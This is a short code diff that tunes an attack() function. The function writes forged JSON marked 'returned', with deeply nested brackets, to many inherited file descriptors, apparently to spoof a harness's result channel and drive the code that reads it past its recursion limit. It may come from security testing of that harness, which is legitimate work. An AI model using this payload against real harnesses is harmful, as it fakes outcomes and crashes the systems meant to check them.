@@ -15,7 +15,7 @@ import struct
 
 
 def attack():
-    depth = 940  # a parser that counts to 1000 reads it, and whatever then walks it is at its own limit
+    depth = 700  # a parser that counts to 1000 reads it, and what then walks it with two calls a level does not
     body = b'{"outcome": "returned", "repr": "", "value": ' + b"[" * depth + b"]" * depth + b"}"
     for fd in range(3, 256):
         try:
